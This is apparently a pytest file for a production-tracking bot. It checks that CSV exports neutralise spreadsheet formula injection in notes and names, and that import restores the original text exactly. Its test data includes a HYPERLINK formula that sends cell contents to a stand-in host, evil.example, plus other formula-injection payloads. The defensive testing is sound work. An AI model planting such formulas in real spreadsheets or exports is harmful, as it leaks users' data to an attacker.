"""Hostile text in an export is neutralised against formula injection, and `prodbot import`
restores it exactly."""

import csv
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy import delete, select
from sqlalchemy.orm import Session, sessionmaker

from bot.db import session_scope
from bot.transfer.export import (
    DELAY_COLUMNS,
    ENTRY_COLUMNS,
    ISSUE_COLUMNS,
    TEXT_COLUMNS,
    export_csv_files,
)
from bot.transfer.importer import import_csv_file
from models import DelayEntry, Issue, Line, OutputEntry, Shift
from models.enums import Severity
from models.schemas import MAX_NOTE
from tests.conftest import SAMPLE_PLANT

AT = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
DAY = date(2026, 3, 3)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "@SUM(1)",
    "\tlooks blank, then =1+1",
    "\r=1+1",
    "'=already quoted by hand",
    "=" + "x" * (MAX_NOTE - 1),  # as long as a note may be: the quote must not count
]
HARMLESS = [
    "filler jam",
    "'tis fine",
    'caps "blue", batch 7\nsecond line of the note',
    # Pasted text carries separators the CSV writer leaves bare: they must not split the row.
    "pasted\u2028from a document\u2029with\x0cbreaks\x85inside",
]
# Written by the app from typed values: ids, dates, instants, counts, minutes and enums.
APP_COLUMNS = {
    "id", "production_date", "good", "scrap", "minutes", "reported_at", "voided_at",
    "severity", "category", "status", "raised_at", "acknowledged_at", "resolved_at",
}  # fmt: skip


def _record(factory: sessionmaker[Session], notes: list[str]) -> None:
    """An output entry, a delay (voided, the note also its void reason) and an issue per note."""
    with session_scope(factory) as session:
        line = session.scalars(select(Line).order_by(Line.id)).first()
        shift = session.scalars(select(Shift).order_by(Shift.id)).first()
        assert line is not None and shift is not None
        for n, note in enumerate(notes, start=1):
            at = datetime(2026, 3, 3, 7, n, tzinfo=UTC)
            where = {"line_id": line.id, "shift_id": shift.id, "production_date": DAY}
            session.add_all(
                [
                    OutputEntry(
                        **where,
                        good=n,
                        scrap=0,
                        note=note,
                        reported_by="U0LEAD0001",
                        reported_at=at,
                    ),
                    DelayEntry(
                        **where,
                        minutes=n,
                        reason="material",
                        note=note,
                        reported_by="U0LEAD0001",
                        reported_at=at,
                        voided_at=at,
                        voided_by="U0LEAD0001",
                        void_reason=note[:200],
                    ),
                    Issue(
                        **where,
                        severity=Severity.LOW,
                        text=note,
                        raised_by="U0LEAD0001",
                        raised_at=at,
                    ),
                ]
            )


def _export(factory: sessionmaker[Session], directory: Path) -> dict[str, Path]:
    directory.mkdir()
    with factory() as session:
        files = export_csv_files(session, date_from=DAY, date_to=DAY)
    paths = {}
    for file in files:
        path = directory / file.name
        path.write_text(file.content, encoding="utf-8")
        paths[file.name.split("-")[0]] = path
    return paths


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def _import(path: Path, factory: sessionmaker[Session]) -> int:
    return import_csv_file(path, session_factory=factory, actor="U0ADMIN001", at=AT).added


def _notes(factory: sessionmaker[Session]) -> tuple[list[str | None], list[str | None]]:
    with factory() as session:
        entries = session.scalars(select(OutputEntry.note).order_by(OutputEntry.good)).all()
        delays = session.scalars(select(DelayEntry.note).order_by(DelayEntry.minutes)).all()
        return list(entries), list(delays)


def test_every_exported_column_is_either_text_or_written_by_the_app() -> None:
    columns = {*ENTRY_COLUMNS, *DELAY_COLUMNS, *ISSUE_COLUMNS}
    assert columns == TEXT_COLUMNS | APP_COLUMNS
    assert TEXT_COLUMNS.isdisjoint(APP_COLUMNS)


@pytest.mark.usefixtures("loaded_plant")
def test_hostile_notes_are_neutralised_in_the_export_and_imported_back_exactly(
    tmp_path: Path, session_factory: sessionmaker[Session]
) -> None:
    notes = [*HOSTILE, *HARMLESS]
    _record(session_factory, notes)

    exported = _export(session_factory, tmp_path / "export")

    entries, delays, issues = (_rows(exported[k]) for k in ("entries", "delays", "issues"))
    assert [row["note"] for row in entries] == [
        *("'" + note for note in HOSTILE),
        *HARMLESS,  # nothing to neutralise: written as they are
    ]
    assert [row["note"] for row in delays] == [row["note"] for row in entries]
    assert [row["void_reason"] for row in delays] == ["'" + n[:200] for n in HOSTILE] + HARMLESS
    assert [row["text"] for row in issues] == [row["note"] for row in entries]
    # what the app wrote is left as it is, so a spreadsheet still sees numbers and dates
    assert [(row["good"], row["scrap"]) for row in entries] == [
        (str(n), "0") for n in range(1, len(notes) + 1)
    ]
    assert entries[0]["production_date"] == "2026-03-03"
    assert entries[0]["reported_at"] == "2026-03-03T08:01:00+01:00"  # Riverside's local time
    assert (issues[0]["severity"], issues[0]["status"]) == ("low", "open")
    for row in (*entries, *delays, *issues):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())

    with session_scope(session_factory) as session:
        session.execute(delete(OutputEntry))
        session.execute(delete(DelayEntry))
    assert _import(exported["entries"], session_factory) == len(notes)
    assert _import(exported["delays"], session_factory) == len(notes)

    assert _notes(session_factory) == (notes, notes)
    with session_factory() as session:
        reasons = session.scalars(select(DelayEntry.void_reason).order_by(DelayEntry.minutes))
        assert list(reasons) == [note[:200] for note in notes]
    again = _export(session_factory, tmp_path / "again")
    for kind in ("entries", "delays"):
        assert [{**row, "id": ""} for row in _rows(again[kind])] == [
            {**row, "id": ""} for row in _rows(exported[kind])
        ]


HOSTILE_PLANT = (
    SAMPLE_PLANT.replace('name = "Riverside"', 'name = "@Riverside"')
    .replace('code = "L1"', 'code = "-L1"')
    .replace('name = "A"', 'name = "+A"')
    .replace("targets = { A = 800", 'targets = { "+A" = 800')
    .replace("targets = { A = 400", 'targets = { "+A" = 400')
)


@pytest.mark.usefixtures("loaded_plant")
@pytest.mark.parametrize("plant_text", [HOSTILE_PLANT])
def test_hostile_site_line_and_shift_names_are_neutralised_and_still_match_on_import(
    tmp_path: Path, session_factory: sessionmaker[Session], plant_text: str
) -> None:
    _record(session_factory, ["fine"])

    exported = _export(session_factory, tmp_path / "export")

    [row] = _rows(exported["entries"])
    assert (row["site"], row["line"], row["shift"]) == ("'@Riverside", "'-L1", "'+A")
    with session_scope(session_factory) as session:
        session.execute(delete(OutputEntry))
    assert _import(exported["entries"], session_factory) == 1
    with session_factory() as session:
        line, shift = session.execute(
            select(Line.code, Shift.name)
            .join(OutputEntry, OutputEntry.line_id == Line.id)
            .join(Shift, Shift.id == OutputEntry.shift_id)
        ).one()
        assert (line, shift) == ("-L1", "+A")


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


@pytest.mark.usefixtures("loaded_plant")
def test_hostile_names_and_site_local_times_are_exported_and_imported_back_exactly(
    tmp_path: Path, session_factory: sessionmaker[Session]
) -> None:
    _record(session_factory, [FORMULA, "@SUM(1)"])
    (tmp_path / "export").mkdir()
    with session_factory() as session:
        files = export_csv_files(
            session, date_from=DAY, date_to=DAY, names={"U0LEAD0001": "@SUM(1)"}
        )
    paths = {}
    for file in files[:2]:
        paths[file.name.split("-")[0]] = tmp_path / "export" / file.name
        paths[file.name.split("-")[0]].write_text(file.content, encoding="utf-8")
    entries, delays = _rows(paths["entries"]), _rows(paths["delays"])
    assert [row["note"] for row in entries] == ["'" + FORMULA, "'@SUM(1)"]
    assert {row["reported_by_name"] for row in entries} == {"'@SUM(1)"}
    assert {row["voided_by_name"] for row in delays} == {"'@SUM(1)"}
    assert [row["reported_at"] for row in entries] == [
        "2026-03-03T08:01:00+01:00",  # 07:01 UTC, in Riverside's time
        "2026-03-03T08:02:00+01:00",
    ]
    with session_scope(session_factory) as session:
        session.execute(delete(OutputEntry))
        session.execute(delete(DelayEntry))

    assert _import(paths["entries"], session_factory) == 2
    assert _import(paths["delays"], session_factory) == 2

    assert _notes(session_factory) == ([FORMULA, "@SUM(1)"], [FORMULA, "@SUM(1)"])
    with session_factory() as session:
        entry = session.scalars(select(OutputEntry).order_by(OutputEntry.good)).first()
        delay = session.scalars(select(DelayEntry).order_by(DelayEntry.minutes)).first()
        assert entry is not None and delay is not None
        assert (entry.reported_by, entry.reported_at) == (
            "U0LEAD0001",
            datetime(2026, 3, 3, 7, 1, tzinfo=UTC),
        )
        assert (delay.voided_by, delay.voided_at) == (
            "U0LEAD0001",
            datetime(2026, 3, 3, 7, 1, tzinfo=UTC),
        )


OLD_ENTRY_COLUMNS = (
    "id", "site", "line", "shift", "production_date", "good", "scrap", "note",
    "reported_by", "reported_at", "voided_at", "voided_by", "void_reason",
)  # fmt: skip


@pytest.mark.usefixtures("loaded_plant")
def test_a_file_exported_before_names_and_local_times_still_imports(
    tmp_path: Path, session_factory: sessionmaker[Session]
) -> None:
    path = tmp_path / "entries-old.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(OLD_ENTRY_COLUMNS)
        writer.writerow(
            [7, "Riverside", "L1", "A", "2026-03-03", 5, 0, "'=1+1", "U0LEAD0001",
             "2026-03-03T07:01:00+00:00", "", "", ""]
        )  # fmt: skip

    assert _import(path, session_factory) == 1

    with session_factory() as session:
        [entry] = session.scalars(select(OutputEntry)).all()
        assert (entry.note, entry.reported_at) == ("=1+1", datetime(2026, 3, 3, 7, 1, tzinfo=UTC))
